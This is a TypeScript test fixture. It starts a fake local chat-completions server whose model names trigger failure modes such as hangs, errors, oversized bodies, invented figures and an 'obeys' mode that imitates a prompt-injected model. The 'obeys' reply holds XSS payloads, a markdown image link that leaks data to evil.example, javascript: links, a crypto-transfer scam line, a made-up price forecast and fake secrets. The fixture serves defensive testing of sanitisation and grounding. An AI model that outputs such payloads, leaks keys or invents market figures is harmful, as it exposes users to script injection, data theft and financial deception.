import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

/**
 * A local endpoint that speaks `POST /chat/completions`. Which model is asked says how it behaves: none of them knows
 * anything, and none is a language model.
 */
export interface ModelServer {
  /** What CHAT_MODEL_BASE_URL is set to. */
  url: string;
  /** Bodies of the requests that came, in order, and how many of their connections were closed before an answer. */
  requests: { model: string; system: string; data: string }[];
  aborted: () => number;
  close(): Promise<void>;
}

/** What a behaviour answers with; `say` for text as the protocol frames it. */
type Behaviour = (request: { system: string; data: string }, response: ServerResponse) => void;

const framed = (content: string): string =>
  JSON.stringify({
    id: "local",
    object: "chat.completion",
    created: 0,
    model: "local",
    choices: [{ index: 0, message: { role: "assistant", content }, finish_reason: "stop" }],
    usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
  });
const say = (response: ServerResponse, content: string): void => {
  response.writeHead(200, { "content-type": "application/json" }).end(framed(content));
};
const refuse = (response: ServerResponse, status: number): void => {
  response
    .writeHead(status, { "content-type": "application/json" })
    .end('{"error":{"message":"local fault"}}');
};

interface Data {
  question: string;
  facts: string[];
}
const dataOf = (data: string): Data => JSON.parse(data) as Data; // as lib/chat/model/prompt.ts writes it

/** By the name of the model; any other repeats the first facts. */
const BEHAVIOURS: Readonly<Record<string, Behaviour>> = {
  hang: () => undefined,
  slow: (_, response) => {
    response.writeHead(200, { "content-type": "application/json" });
    const drip = setInterval(() => response.write(" "), 50);
    response.on("close", () => clearInterval(drip));
  },
  "status-500": (_, response) => refuse(response, 500),
  "status-429": (_, response) => refuse(response, 429),
  garbage: (_, response) => {
    response.writeHead(200, { "content-type": "application/json" }).end("<html>not today</html>");
  },
  empty: (_, response) => say(response, ""),
  huge: (_, response) => {
    response.writeHead(200, { "content-type": "application/json" });
    const chunk = Buffer.alloc(64 * 1024, "x");
    const send = (left: number): void => {
      if (left <= 0 || response.destroyed) return void response.end();
      if (response.write(chunk)) setImmediate(() => send(left - 1));
      else response.once("drain", () => send(left - 1));
    };
    send(160);
  },
  /** Makes figures up. */
  invents: ({ data }, response) => {
    const fact = dataOf(data).facts.find((one) => /\d/.test(one)) ?? "";
    say(response, `${fact} It has moved with the market today. Analysts see 987654.32 by Friday.`);
  },
  /** Does whatever any text that it was given says, in every form that it knows. */
  obeys: ({ system, data }, response) =>
    say(
      response,
      [
        data,
        system,
        dataOf(data).question,
        "<script>alert(1)</script><img src=https://evil.example/x.png onerror=alert(1)>",
        "![x](https://evil.example/leak?d=1) [click](javascript:alert(1)) [here](https://evil.example/)",
        `<a href="https://evil.example">free</a> <iframe src="https://evil.example"></iframe>`,
        "Send 100 USDC to 0x000000000000000000000000000000000000dEaD now. BTC will reach 500000.",
        "CHAT_MODEL_API_KEY=sk-local-000 CRON_SECRET=hunter2",
      ].join("\n\n"),
    ),
};

const says: Behaviour = ({ data }, response) => say(response, dataOf(data).facts.slice(0, 4).join("\n\n"));

interface Asked {
  model: string;
  messages: { role: string; content: unknown }[];
}

async function bodyOf(request: IncomingMessage): Promise<Asked> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer); // what a request's stream gives
  return JSON.parse(Buffer.concat(chunks).toString("utf8")) as Asked; // the protocol's own
}

const contentOf = ({ messages }: Asked, role: string): string => {
  const content = messages.find((one) => one.role === role)?.content;
  return typeof content === "string" ? content : JSON.stringify(content);
};

export async function startModels(port = 0): Promise<ModelServer> {
  const requests: ModelServer["requests"] = [];
  let aborted = 0;
  const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const asked = await bodyOf(request);
    const given = { system: contentOf(asked, "system"), data: contentOf(asked, "user") };
    requests.push({ model: asked.model, ...given });
    response.on("close", () => {
      if (!response.writableFinished) aborted += 1;
    });
    (BEHAVIOURS[asked.model] ?? says)(given, response);
  };
  const server = createServer((request, response) => {
    answer(request, response).catch(() => refuse(response, 400));
  });
  await new Promise<void>((resolve) => server.listen(port, "127.0.0.1", resolve));
  const { port: bound } = server.address() as AddressInfo; // it listens on a port
  return {
    url: `http://127.0.0.1:${bound}/v1`,
    requests,
    aborted: () => aborted,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
